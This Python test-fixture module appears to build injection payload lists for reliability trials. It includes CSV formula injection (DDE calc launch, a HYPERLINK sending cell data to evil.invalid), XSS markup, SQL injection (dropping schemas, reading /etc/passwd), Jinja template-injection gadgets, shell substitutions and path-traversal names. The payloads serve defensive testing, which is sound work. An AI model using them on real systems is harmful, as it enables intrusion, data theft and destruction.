"""The payloads of the injection trials: 200 formulas, 200 of markup, 500 of SQL and Jinja, 100 paths.

Belongs here: the lists, made of beginnings and bodies, so that each beginning meets several bodies. Does not: where
they are put and what shows that one lives (reliability_injection*.py).

Nothing here harms a machine that runs it: addresses end in .invalid, files go below CANARIES, shells are asked to
touch one.
"""

from __future__ import annotations

from itertools import product

# A place that payloads would write to, were they run; trials replace it by a folder of their own.
CANARIES = "@CANARIES@"
HOST = "evil.invalid"

_STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", "'=", "''='", " =", "  +", "\u00a0="),
    *("\u3000=", "\u2003@", "\u200b=", "\ufeff=", "\u2060-", "\u00ad=", "\u202e=", "\x00=", "\x0b=", "\x1f+", "\x7f="),
    *("x;=", "x,=", 'x"=', "x|=", "x\n=", "x\r=", "x\t=", 'x",="', "x;'=", "x;\u200b=", "x;\x00=", '"=', "x;;+"),
)
_FORMULAS = (
    *("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("http://{HOST}/?"&A1,"click")', f'WEBSERVICE("http://{HOST}")'),
    *('DDE("cmd";"/C calc";"x")',),
)
FORMULAS = tuple(start + body for body, start in product(_FORMULAS, _STARTS))[:200]

_BREAKS = ("", '">', "'>", "</title>", "</style>", "</td></table>", "-->", "</text></svg>")
_MARKUP = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<ScRiPt\x0c>alert(1)//"),
    *(f"<iframe src='javascript:alert(1)' srcdoc='{HOST}'>", f"<a href='javascript:alert(1)' ping=//{HOST}>x</a>"),
    *(f"<meta http-equiv=refresh content='0;url=http://{HOST}'>", f"<link rel=stylesheet href=//{HOST}/x.css>"),
    *(
        f"<base href=http://{HOST}>",
        f"<form action=//{HOST}><input autofocus onfocus=alert(1)>",
        "<x/onclick=alert(1)>",
    ),
    *(f"<style>*{{background:url(//{HOST})}}</style>", "<details open ontoggle=alert(1)>", "<!--><b>x</b><!--"),
    *("<object data='data:text/html,<script>alert(1)</script>'>", "<![CDATA[<script>alert(1)</script>]]>"),
    *("<math><mtext><style><img src onerror=alert(1)>", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) '"),
    *("javascript:alert(1)//", "data:text/html,<script>alert(1)</script>", "{{ 7*7 }}{{ self.__init__.__globals__ }}"),
    *(
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "&lt;script&gt;alert(1)&#x3c;/script>",
    ),
    *("＜script＞alert(1)＜/script＞", "\\u003cscript\\u003ealert(1)", "%(x)s {0.__class__} ${7*7} datum['x']"),
)
MARKUP = tuple(before + body for before, body in product(_BREAKS, _MARKUP))[:200]

_STATEMENTS = (
    *("create table canary(i int)", f"copy (select 1) to '{CANARIES}/copied'", "drop schema marts cascade"),
    *(f"attach '{CANARIES}/a.duckdb' as a", "delete from marts.dim_campaigns", f"export database '{CANARIES}/e'"),
    *("select * from read_csv('/etc/passwd')", "set memory_limit='1MB'", "drop table stores", "load httpfs"),
    *(
        "update marts.dim_stores set area_id='x'",
        "select getenv('HOME')",
        "insert into canary values (1)",
        "checkpoint",
    ),
)
_QUOTES = (
    *("'; {}; --", '"; {}; --', "'); {}; --", '"); {}; --', "\\'; {}; --", "$$; {}; $$", "*/ {}; /*", "; {};"),
    *(
        "`; {}; #",
        "' || ({}) || '",
        "']; {}; --",
        "\u2019; {}; --",
        "'\n{}\n--",
        "*'; {}; --",
        "/*.parquet', x); {}; --",
    ),
    *("') union all {} --", "?';{}--", "%27; {}; --", '""; {}; --', "''; {}; --"),
)
_SQL = tuple(quote.format(body) for quote, body in product(_QUOTES, _STATEMENTS))
_JINJA = (
    *("{{ 7*7 }}", "{{ env_var('HOME') }}", '{{ run_query("create table canary(i int)") }}', "{{", "}}", "{%", "{#"),
    *("{% do run_query('create table canary(i int)') %}", "{{ ''.__class__.__mro__ }}", "{{ var('as_of') }}", "{name}"),
    *(
        "{% set x = 1 %}{{ x }}",
        "{{ modules.re }}",
        "{{ target.path }}",
        "{{ adapter.drop_schema(this) }}",
        "{0}",
        "{}",
    ),
    *(
        "{{ exceptions.raise_compiler_error('x') }}",
        "{% include '/etc/passwd' %}",
        "{0.__class__}",
        "{config.__class__}",
    ),
    *("%(name)s", "%s%s%n", "${HOME}", f"$(touch {CANARIES}/s)", f"`touch {CANARIES}/b`", f"| touch {CANARIES}/p"),
    *(
        "{% call statement() %}create table canary(i int){% endcall %}",
        "{{ log('x', info=true) }}",
        "${{ 7*7 }}",
        "#{7}",
    ),
    *("{{ fromjson('[1]') }}", "{{ builtins }}", "{{ invocation_args_dict }}", "{% raw %}{{ x }}", "{% endraw %}"),
)
_AROUND = ("{}", "'{}'", '"{}"', "x {}", "{} y", "^{}$", "[{}]", "*{}?")
STATEMENTS = (*_SQL, *(around.replace("{}", body) for around, body in product(_AROUND, _JINJA)))[:500]

_LONG = "n" * 240
_DEVICES = ("con", "PRN", "aux.csv", "nul", "COM1", "lpt9.txt")
_NAMES = (
    *("..", ".", "../outside", "../../outside", "../" * 12 + "etc/passwd", "/etc/passwd", "//etc/passwd", "~root/x"),
    *(
        "x/../../outside",
        "..\\outside",
        "\\\\server\\share\\x",
        "C:\\outside",
        "file:///etc/passwd",
        "%2e%2e%2foutside",
    ),
    *("..%2foutside", "%252e%252e/outside", "..%c0%afoutside", "..\u2215outside", "..\uff0foutside", "\u2025/outside"),
    *(
        "．．/outside",
        "..;/outside",
        ".../outside",
        "....//outside",
        "outside\x00.csv",
        "../outside\x00",
        "a\nb",
        "a\rb",
    ),
    *("-rf", "--help", "|touch x", ">outside", "$HOME/outside", "${HOME}", "`id`", "*", "?", "[a-z]*", "**/*", "{a,b}"),
    *(
        _LONG,
        f"../{_LONG}",
        "é",
        "e\u0301",
        "Å",
        "A\u030a",
        "ﬁ",
        "İ",
        "\u202etxt.exe",
        "\ufeffx",
        " ",
        "  ",
        ".x",
        "x.",
    ),
    *(
        "x ",
        " x",
        "x/",
        "/x",
        "x//y",
        ".git/config",
        ".ssh/id",
        "_load.json",
        "manifest.json",
        "nanolift.toml",
        "vault",
    ),
)
PATHS = tuple(dict.fromkeys((*_NAMES, *_DEVICES, *(f"x/{name}" for name in (*_DEVICES, *_NAMES)))))[:100]


def placed(payloads: tuple[str, ...], folder: str) -> tuple[str, ...]:
    """The payloads with the folder that they would write to."""
    return tuple(payload.replace(CANARIES, folder) for payload in payloads)
